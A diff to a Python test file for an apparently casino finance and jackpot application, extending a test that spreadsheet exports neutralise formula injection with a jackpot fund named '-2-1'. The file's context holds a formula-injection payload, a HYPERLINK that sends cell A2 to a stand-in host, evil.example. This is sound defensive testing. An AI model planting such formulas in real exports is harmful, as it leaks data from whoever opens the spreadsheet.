@@ -32,6 +32,7 @@ from finance.models import FinanceException
 from finance.services import drop, exceptions, tray
 from finance.services.close import gaming_day_close
 from jackpots.models import Fund
+from tables.domain.rules_options import example_options
 from tables.services import tables
 from tests.finance.test_tray import OPENER
 from tests.jackpots._hands import play_hand, seat_three
@@ -63,6 +64,8 @@ EXPORTS: dict[str, Callable[[str, list[str]], list[str]]] = {
 
 #: what a person types, after each start
 PAYLOAD = 'HYPERLINK("http://evil.example/?leak="&A2,"Click")'
+#: the Bad Beat fund as compliance named it in the Hold'em table's Rules Submission
+FUND = "-2-1"  # a spreadsheet would compute -3
 
 
 def _sources() -> Iterator[tuple[str, str]]:
@@ -120,7 +123,8 @@ def poisoned_day(crew: dict[str, Any], staff: Callable, put_rules_in_effect: Cal
     """Yesterday at a Five Card Hi-Lo table named by a person ``<start>HYPERLINK…``: the
     tray $100.00 short, found at the day's close, explained in those words by a finance
     login named ``<start>explainer`` and signed off by a compliance login named
-    ``<start>signer``; a Hold'em hand paying into the jackpot funds."""
+    ``<start>signer``; a Hold'em hand paying into the jackpot funds, the Bad Beat fund
+    named :data:`FUND` by compliance."""
     start = request.param
     put_rules_in_effect("five-card-hi-lo")
     table = tables.table_configure(actor=crew["admin"], name=(start + PAYLOAD)[:40],
@@ -129,7 +133,10 @@ def poisoned_day(crew: dict[str, Any], staff: Callable, put_rules_in_effect: Cal
     tables.table_assign_dealer(actor=crew["floor"], table_id=table.pk,
                                dealer=crew["dealer"].username)
     table = tables.table_open(actor=crew["floor"], table_id=table.pk)
-    holdem = poker_table("holdem")["table"]
+    # a fund is named by letters, digits, - and _ (the Rules' option): "-" is the one
+    # formula start its name can take
+    bad_beat = {**example_options("holdem")["bad_beat"], "fund": FUND}
+    holdem = poker_table("holdem", bad_beat=bad_beat)["table"]
     seat_three(as_actor(crew["dealer"]), holdem)
     play_hand(as_actor(crew["dealer"]), holdem)  # a fund exists once a hand pays into it
     team = {**crew, "runner": crew["security"], "counter": staff("count_team"),
@@ -183,8 +190,8 @@ def test_every_export_writes_what_people_typed_as_text_no_spreadsheet_runs(
             rows = _download(client, url)
             text = [c for row in rows for c in row if isinstance(c, str)]
             assert [c for c in text if c.startswith(FORMULA_STARTS)] == [], url
-            seen[url] = [c for c in text if "HYPERLINK" in c or c.endswith(("explainer",
-                                                                             "signer"))]
+            seen[url] = [c for c in text if "HYPERLINK" in c or FUND in c
+                         or c.endswith(("explainer", "signer"))]
     exception_report = next(v for k, v in seen.items() if "/exceptions/" in k)
     typed, named = start + PAYLOAD, (start + PAYLOAD)[:40]
     if start in "\t\r":  # taken stripped: the words begin with the payload
@@ -198,3 +205,4 @@ def test_every_export_writes_what_people_typed_as_text_no_spreadsheet_runs(
     for url, cells in seen.items():
         if re.search(r"/finance/reports/(master-game|statistical|exceptions)/", url):
             assert table in cells, url
+    assert "'" + FUND in next(v for k, v in seen.items() if "/jackpot-funds/?" in k)
